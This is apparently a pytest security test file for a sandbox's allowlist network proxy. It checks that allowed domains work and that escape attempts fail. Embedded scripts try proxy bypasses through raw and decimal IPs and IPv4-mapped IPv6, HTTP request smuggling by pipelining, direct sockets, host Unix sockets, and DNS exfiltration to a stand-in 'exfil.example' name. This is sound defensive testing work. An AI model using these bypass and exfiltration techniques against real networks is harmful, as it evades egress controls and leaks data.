"""THREATS.md, network with an allowlist: only the listed domains, only through the proxy.

Judged from the host: what the loopback web servers received (every connection and
byte), what the NetSpy servers and packet sniffer saw, what is left on the host.
`allowed.test` and `denied.test` both map to the loopback servers through the host
side's STOCKADE_PROXY_RESOLVE, so a filter that let `denied.test` through would
really reach a server, and the test would see it.
"""

from __future__ import annotations

import contextlib
import faulthandler
import json
import os
import socket
import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from conftest import CANARY, HANG_ABORT, PY, PYTHON, RUN_TIMEOUT, Box, NetSpy, describe, frame_summary, wait_until

from policies.model import Limits, Mode, NetworkMode, NetworkPolicy, SandboxPolicy
from sandbox.backends.base import SandboxSetupError
from sandbox.result import Result

PROXY = "http://127.0.0.1:3128"


class Web:
    """Loopback TCP servers recording every connection and byte; a complete request head gets `200 HELLO`."""

    def __init__(self, *names: str) -> None:
        self.events: list[tuple[str, str, bytes]] = []
        self.ports: dict[str, int] = {}
        self._lock = threading.Lock()
        self._socks: list[socket.socket] = []
        for name in names:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind(("127.0.0.1", 0))
            s.listen(32)
            self._socks.append(s)
            self.ports[name] = s.getsockname()[1]
            threading.Thread(target=self._accept, args=(name, s), daemon=True).start()

    def _accept(self, name: str, s: socket.socket) -> None:
        while True:
            try:
                conn, _ = s.accept()
            except OSError:
                return
            self._record(name, "connect", b"")
            threading.Thread(target=self._serve, args=(name, conn), daemon=True).start()

    def _serve(self, name: str, conn: socket.socket) -> None:
        conn.settimeout(5)
        data = b""
        with contextlib.suppress(OSError), conn:
            while True:
                chunk = conn.recv(65536)
                if not chunk:
                    break
                self._record(name, "data", chunk)
                data += chunk
                while b"\r\n\r\n" in data:
                    data = data.split(b"\r\n\r\n", 1)[1]
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Type: text/plain\r\n\r\nHELLO")

    def _record(self, name: str, what: str, data: bytes) -> None:
        with self._lock:
            self.events.append((name, what, data))

    def got(self, name: str) -> bytes:
        """Everything server `name` received (b"" and no connection: untouched)."""
        with self._lock:
            return b"".join(d for n, _, d in self.events if n == name)

    def touched(self, name: str) -> bool:
        with self._lock:
            return any(n == name for n, _, _ in self.events)

    def close(self) -> None:
        for s in self._socks:
            with contextlib.suppress(OSError):
                s.close()


@pytest.fixture
def web(monkeypatch: pytest.MonkeyPatch) -> Iterator[Web]:
    w = Web("allowed", "other")
    # The host side's static name map (like curl --resolve): both names lead to the loopback.
    monkeypatch.setenv("STOCKADE_PROXY_RESOLVE", "allowed.test=127.0.0.1,denied.test=127.0.0.1")
    yield w
    w.close()


def _proxy_base() -> str:
    from sandbox.proxy import base_dir

    return base_dir()


def _proxy_dirs() -> set[str]:
    with contextlib.suppress(OSError):
        return {n for n in os.listdir(_proxy_base()) if n.startswith("proxy-")}
    return set()


@pytest.fixture
def run_allow(box: Box, web: Web) -> Callable[..., Result]:
    """run_allow(backend, mode, script, domains=("allowed.test:<allowed port>",), py=False, **run_kw)."""

    def run(backend: str, mode: str, script: str, *, domains: tuple[str, ...] | None = None, py: bool = False,
            **kw: Any) -> Result:
        import sandbox

        argv = [PYTHON, "-I", "-S", "-c", script] if py else ["sh", "-c", script]
        policy = SandboxPolicy(
            mode=Mode("full-access" if CANARY else mode),
            workspace=str(box.ws),
            network=NetworkPolicy(NetworkMode.ALLOWLIST, domains or (f"allowed.test:{web.ports['allowed']}",)),
            limits=Limits(timeout=kw.pop("timeout", RUN_TIMEOUT)),
        )
        faulthandler.dump_traceback_later(HANG_ABORT, exit=True)
        try:
            result = sandbox.run(argv, policy, env=box.env, backend=backend, host=box.host, **kw)
            result.refused = None  # type: ignore[attr-defined]
        except SandboxSetupError as exc:
            result = Result(argv=argv, exit_code=None, signal=None, stderr=f"REFUSED: {exc}".encode(),
                            backend=backend)
            result.refused = str(exc)  # type: ignore[attr-defined]
        finally:
            faulthandler.cancel_dump_traceback_later()
        result.out = (result.stdout + result.stderr).decode("utf-8", "replace")  # type: ignore[attr-defined]
        result.why = describe(result) + f"\ndenials={result.denials}"  # type: ignore[attr-defined]
        return result

    return run


must_work = pytest.mark.skipif(CANARY, reason="STOCKADE_SECTEST_CANARY: must-work tests do not apply unconfined")


def _denied(r: Result, target: str) -> bool:
    return any(d.kind == "network" and d.target == target for d in r.denials)


# ---------------------------------------------------------------- must work


CLIENTS = {
    "curl": "curl -sS -m 5 http://allowed.test:{port}/{marker}-curl",
    "curl-connect-tunnel": "curl -sS -m 5 --proxytunnel http://allowed.test:{port}/{marker}-tunnel",
    "python-urllib": (f"{PY} -c \"import urllib.request as u; "
                      "print(u.urlopen('http://allowed.test:{port}/{marker}-py', timeout=5).read().decode())\""),
}


@must_work
@pytest.mark.parametrize("client", CLIENTS)
def test_allowed_domain_reachable_through_proxy(backend, mode, client, box, web, run_allow):
    port = web.ports["allowed"]
    r = run_allow(backend, mode, CLIENTS[client].format(port=port, marker=box.marker))
    got = web.got("allowed")
    assert box.marker.encode() in got, f"the allowed server never got the request\n{r.why}"
    assert r.exit_code == 0 and "HELLO" in r.out, r.why
    assert r.protections["network"].startswith("enforced: allowlist via proxy"), r.why
    assert not [d for d in r.denials if d.kind == "network"], r.why


@must_work
def test_wildcard_entry_reaches_subdomain(backend, box, web, run_allow, monkeypatch):
    monkeypatch.setenv("STOCKADE_PROXY_RESOLVE", "api.allowed.test=127.0.0.1,allowed.test=127.0.0.1")
    port = web.ports["allowed"]
    r = run_allow(backend, "workspace-write",
                  f"curl -sS -m 5 http://api.allowed.test:{port}/{box.marker}-sub; "
                  f"curl -sS -m 5 http://allowed.test:{port}/{box.marker}-apex",
                  domains=(f"*.allowed.test:{port}",))
    got = web.got("allowed")
    assert f"{box.marker}-sub".encode() in got, r.why
    assert f"{box.marker}-apex".encode() not in got, f"*.allowed.test let the apex through\n{r.why}"
    assert _denied(r, f"allowed.test:{port}"), r.why


@must_work
def test_session_uses_the_proxy_for_its_lifetime(backend, box, web):
    from sandbox.session import Session

    before = _proxy_dirs()
    port = web.ports["allowed"]
    network = NetworkPolicy(NetworkMode.ALLOWLIST, (f"allowed.test:{port}",))
    policy = SandboxPolicy(workspace=str(box.ws), network=network, limits=Limits(timeout=RUN_TIMEOUT))
    with Session(policy, backend, host=box.host) as s:
        for i in range(3):  # idle sweeps between commands must not take the relay down
            r = s.exec(["sh", "-c", f"curl -sS -m 5 http://allowed.test:{port}/{box.marker}-s{i}; "
                                    f"curl -sS -m 5 http://denied.test:{port}/{box.marker}-d{i}"], env=box.env)
            assert f"{box.marker}-s{i}".encode() in web.got("allowed"), describe(r)
            assert _denied(r, f"denied.test:{port}"), r.denials
            wait_until(lambda: False, 0.15)
        assert _proxy_dirs() - before, "the session's proxy directory is missing while it runs"
    assert f"{box.marker}-d".encode() not in web.got("allowed")
    assert wait_until(lambda: _proxy_dirs() == before, 5), f"left behind: {_proxy_dirs() - before}"


# ---------------------------------------------------------------- must be denied


@pytest.mark.parametrize("how", ["http", "connect"])
def test_other_domain_refused(backend, mode, how, box, web, run_allow):
    port = web.ports["allowed"]
    flag = "--proxytunnel " if how == "connect" else ""
    r = run_allow(backend, mode, f"curl -sS -m 5 -x {PROXY} {flag}http://denied.test:{port}/{box.marker} 2>&1; "
                                 f"curl -sS -m 5 http://denied.test:{port}/{box.marker} 2>&1; echo attempted")
    assert not web.touched("allowed"), f"denied.test reached the server: {web.got('allowed')[:200]!r}\n{r.why}"
    if not CANARY:
        assert _denied(r, f"denied.test:{port}"), r.why


RAW_IP = {
    "http": "curl -sS -m 5 --noproxy '' -x {proxy} http://127.0.0.1:{port}/{marker}",
    "connect": "curl -sS -m 5 --noproxy '' -x {proxy} --proxytunnel http://127.0.0.1:{port}/{marker}",
    "v4-mapped-v6": "curl -sS -m 5 --noproxy '' -g -x {proxy} --proxytunnel 'http://[::ffff:127.0.0.1]:{port}/{marker}'",
    "decimal": "curl -sS -m 5 --noproxy '' -x {proxy} --proxytunnel http://2130706433:{port}/{marker}",
}


@pytest.mark.parametrize("how", RAW_IP)
def test_raw_ip_refused(backend, how, box, web, run_allow):
    port = web.ports["allowed"]
    r = run_allow(backend, "workspace-write",
                  RAW_IP[how].format(proxy=PROXY, port=port, marker=box.marker) + " 2>&1; echo attempted")
    assert not web.touched("allowed"), f"raw IP via {how!r} reached the server\n{r.why}"
    if not CANARY:
        assert any(d.kind == "network" and d.target.endswith(f":{port}") for d in r.denials), r.why


def test_connect_to_other_port_refused(backend, box, web, run_allow):
    """allowed.test is listed for one port; CONNECT to another of its ports (a server that is there) fails."""
    other = web.ports["other"]
    r = run_allow(backend, "workspace-write",
                  f"curl -sS -m 5 --proxytunnel http://allowed.test:{other}/{box.marker} 2>&1; "
                  f"curl -sS -m 5 http://allowed.test:{other}/{box.marker} 2>&1; "
                  f"curl -sS -m 5 --proxytunnel telnet://allowed.test:22 </dev/null 2>&1; echo attempted")
    assert not web.touched("other"), f"CONNECT to another port got through\n{r.why}"
    if not CANARY:
        assert _denied(r, f"allowed.test:{other}") and _denied(r, "allowed.test:22"), r.why


SMUGGLE = r'''
import socket, sys
port, other, marker = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
# An allowed request, then on the same connection one for another host and port.
s.sendall((f"GET http://allowed.test:{port}/{marker}-first HTTP/1.1\r\nHost: allowed.test\r\n"
           f"Connection: keep-alive\r\n\r\n"
           f"GET http://denied.test:{other}/{marker}-second HTTP/1.1\r\nHost: denied.test\r\n\r\n").encode())
print(s.recv(65536))
'''


def test_pipelined_request_cannot_switch_host(backend, box, web, run_allow):
    path = box.root / "smuggle.py"
    path.write_text(SMUGGLE)
    port, other = web.ports["allowed"], web.ports["other"]
    r = run_allow(backend, "workspace-write", f"{PY} {path} {port} {other} {box.marker} 2>&1; echo attempted")
    assert not web.touched("other"), f"a pipelined request reached another host:port\n{r.why}"


DIRECT = r'''
import json, socket, sys
for host, port in json.loads(sys.argv[1]):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            fam = socket.AF_INET6 if ":" in host else socket.AF_INET
            s = socket.socket(fam, kind)
            s.settimeout(2)
            s.connect((host, port))
            s.send(sys.argv[2].encode())
            print("SENT", host, port, kind)
        except OSError as exc:
            print("FAILED", host, port, kind, exc)
'''


@pytest.mark.parametrize("how", ["curl-noproxy-name", "curl-noproxy-ip", "sockets", "host-addresses"])
def test_direct_connections_fail(backend, mode, how, box, web, spy, run_allow):
    """Env-var proxying is no boundary: ignoring it must still get nowhere."""
    from conftest import host_addresses

    port = web.ports["allowed"]
    if how == "curl-noproxy-name":
        script = (f"curl -sS -m 3 --noproxy '*' http://allowed.test:{port}/{box.marker} 2>&1; "
                  f"env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sS -m 3 "
                  f"http://allowed.test:{port}/{box.marker}")
    elif how == "curl-noproxy-ip":
        script = (f"curl -sS -m 3 --noproxy '*' http://127.0.0.1:{port}/{box.marker} 2>&1; "
                  f"curl -sS -m 3 http://127.0.0.1:{spy.tcp4}/{box.marker} 2>&1")
    else:
        path = box.root / "direct.py"
        path.write_text(DIRECT)
        targets = ([["127.0.0.1", port], ["127.0.0.1", spy.tcp4], ["::1", spy.tcp6], ["127.0.0.1", spy.udp4]]
                   if how == "sockets" else
                   [[a, spy.tcp6 if ":" in a else spy.tcp4] for a in host_addresses()]
                   + [[a, spy.udp6 if ":" in a else spy.udp4] for a in host_addresses()])
        script = f"{PY} {path} '{json.dumps(targets)}' {box.marker}"
    r = run_allow(backend, mode, script + " 2>&1; echo attempted")
    assert not web.touched("allowed"), f"direct connection ({how}) reached the server\n{r.why}"
    seen = spy.seen_by("tcp4", "tcp6", "udp4", "udp6")
    assert not seen, f"direct traffic ({how}) reached the host: {frame_summary(seen)}\n{r.why}"


DNS = r'''
import socket, struct, sys
name = sys.argv[1]
try:
    print("RESOLVED", socket.getaddrinfo(name, 80))
except OSError as exc:
    print("getaddrinfo failed:", exc)
q = struct.pack(">HHHHHH", 0x1234, 0x100, 1, 0, 0, 0) + b"".join(
    bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
for server in ("127.0.0.1", "8.8.8.8"):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try:
            s = socket.socket(socket.AF_INET, kind)
            s.settimeout(1)
            s.connect((server, 53))
            s.send(q if kind == socket.SOCK_DGRAM else struct.pack(">H", len(q)) + q)
            print("QUERY SENT", server, kind)
        except OSError as exc:
            print("query failed:", server, exc)
'''


def test_dns_exfiltration_fails(backend, box, web, spy, run_allow):
    """No lookup leaves the sandbox: not directly, and not through the proxy for a name it refuses."""
    path = box.root / "dns.py"
    path.write_text(DNS)
    name = f"{box.marker}.exfil.example"
    getent = "" if CANARY else f"getent hosts {name} 2>&1; "
    r = run_allow(backend, "workspace-write",
                  f"{PY} {path} {name} 2>&1; {getent}curl -sS -m 3 http://{name}/ 2>&1; "
                  f"curl -sS -m 3 --proxytunnel https://{name}/ 2>&1; echo attempted")
    seen = spy.seen_by("dns-udp", "dns-tcp")
    assert not seen, f"a DNS query with the marker left the sandbox: {frame_summary(seen)}\n{r.why}"
    assert "RESOLVED" not in r.out, r.why


UNIX = r'''
import json, socket, sys
for path in json.loads(sys.argv[1]):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect(path)
        print("CONNECTED", path, flush=True)
    except OSError as exc:
        print("FAILED", path, exc)
    finally:
        s.close()
'''

VIA_SOCKET = r'''
import glob, socket, sys
port, marker, base = sys.argv[1], sys.argv[2], sys.argv[3]
for path in glob.glob(base + "/proxy-*/proxy.sock"):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(path)
    s.sendall(f"CONNECT allowed.test:{port} HTTP/1.1\r\n\r\nGET /{marker}-unix HTTP/1.1\r\nHost: a\r\n\r\n".encode())
    print("REPLY", s.recv(4096))
'''


def test_only_the_proxy_socket_is_reachable(backend, box, web, spy, run_allow):
    """Every host pathname socket refuses the sandbox except the proxy's, which still filters."""
    from sandbox.unix_sockets import host_unix_sockets

    unix = box.root / "unix.py"
    unix.write_text(UNIX)
    via = box.root / "via.py"
    via.write_text(VIA_SOCKET)
    spies = [str(p) for k, p in spy.unix.items() if k != "appeared-during-run"]
    targets = sorted({*host_unix_sockets(), *spies})
    port = web.ports["allowed"]
    token = box.marker[::-1]  # the legitimate request must not carry the marker the sniffer looks for
    r = run_allow(backend, "workspace-write",
                  f"{PY} {unix} '{json.dumps(targets)}' 2>&1; {PY} {via} {port} {token} {_proxy_base()} 2>&1; "
                  "echo attempted")
    seen = spy.seen_by(*NetSpy.UNIX_KINDS)
    assert not seen, f"a host Unix socket was reached: {frame_summary(seen)}\n{r.why}"
    connected = [line.split(" ", 1)[1] for line in r.out.splitlines() if line.startswith("CONNECTED ")]
    assert not connected, f"host Unix sockets reachable from the sandbox: {connected}\n{r.why}"
    if not CANARY:
        assert f"{token}-unix".encode() in web.got("allowed"), f"the proxy socket was not usable\n{r.why}"


def test_landlock_without_netns_refuses_allowlist(box, web):
    """No private network namespace: refused with the reason, never run with a weaker network."""
    from policies.resolve import resolve
    from sandbox.backends.landlock import LandlockBackend
    from sandbox.proxy import start_proxy

    backend = LandlockBackend(namespaces="none")
    if backend.unavailable(box.host):
        pytest.skip(backend.unavailable(box.host))
    policy = SandboxPolicy(workspace=str(box.ws), network=NetworkPolicy(NetworkMode.ALLOWLIST, ("allowed.test",)))
    rp = resolve(policy, box.host, str(box.ws))
    assert backend.protections(rp, box.host)["network"].startswith("missing:")  # so `auto` never picks it
    proxy = start_proxy(policy.network.allow_domains)
    try:
        with pytest.raises(SandboxSetupError, match="network namespace"):
            backend.launch(rp, box.host, ["true"], dict(box.env), proxy=proxy)
    finally:
        proxy.close()


# ---------------------------------------------------------------- the host is not harmed


@pytest.mark.parametrize("how", ["normal", "timeout"])
def test_leaves_nothing_behind(backend, how, box, web, run_allow):
    before = _proxy_dirs()
    port = web.ports["allowed"]
    script = f"curl -sS -m 5 http://allowed.test:{port}/{box.marker}; echo ran"
    if how == "timeout":
        script += "; sleep 30"
    r = run_allow(backend, "workspace-write", script, timeout=2.0 if how == "timeout" else RUN_TIMEOUT)
    assert (how == "timeout") == r.timed_out, r.why
    assert _proxy_dirs() == before, f"proxy dirs left behind: {_proxy_dirs() - before}"
    relay = os.path.join(os.path.dirname(__import__("sandbox.proxy").proxy.__file__), "proxy_relay.py")
    assert wait_until(lambda: not [p for p in _pids_with(relay)], 5), "a relay process outlived the run"
    assert wait_until(lambda: not [t for t in threading.enumerate() if t.name.startswith("stockade-proxy")], 5)


def _pids_with(text: str) -> list[int]:
    from conftest import cmdline_pids

    return cmdline_pids(text)
